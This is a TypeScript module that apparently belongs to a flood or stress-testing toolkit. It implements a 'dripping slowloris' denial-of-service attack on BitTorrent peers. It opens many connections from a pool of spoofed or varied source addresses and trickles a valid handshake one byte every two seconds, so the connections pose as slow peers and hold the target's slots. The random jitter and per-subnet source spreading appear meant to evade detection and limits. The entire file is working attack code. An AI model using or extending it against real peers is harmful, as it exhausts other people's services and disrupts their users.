/**
 * Dripping slowloris: like silent.ts, but each connection sends a valid BitTorrent handshake
 * one byte every `dripMs` (2 s), so it always looks like a slow peer still handshaking.
 */
import type { FloodContext, FloodResult } from './flood-context.ts'
import { handshake } from './bt-bytes.ts'
import { SourcePool } from './sources.ts'
import { runSlots, slotCounts, type SlotConn } from './tcp-slots.ts'

export async function run (ctx: FloodContext): Promise<FloodResult> {
  const sources = new SourcePool(ctx.params.sources, ctx.params.perSubnet)
  const timers = new Map<SlotConn, ReturnType<typeof setTimeout>>()
  let bytes = 0
  const stats = await runSlots(ctx, { slots: ctx.params.connections, reopenMs: ctx.params.reopenMs, sources }, {
    connected (conn) {
      const hs = handshake(ctx.pickInfoHash())
      let at = 0
      const drip = (): void => {
        if (at >= hs.length || conn.socket.destroyed) return
        conn.socket.write(hs.subarray(at, at + 1))
        at += 1
        bytes += 1
        timers.set(conn, setTimeout(drip, ctx.params.dripMs))
      }
      // Spread the first byte over one interval so the drips do not all land in one tick.
      timers.set(conn, setTimeout(drip, ctx.rand() * ctx.params.dripMs))
    },
    closed (conn) {
      clearTimeout(timers.get(conn))
      timers.delete(conn)
    }
  })
  const { counts, summary } = slotCounts(stats)
  return { counts: { ...counts, bytes }, units: stats.opened, unit: 'conns', summary: `${ctx.params.connections} dripping 1 B/${ctx.params.dripMs / 1000} s from ${sources.count} addrs: ${summary}` }
}
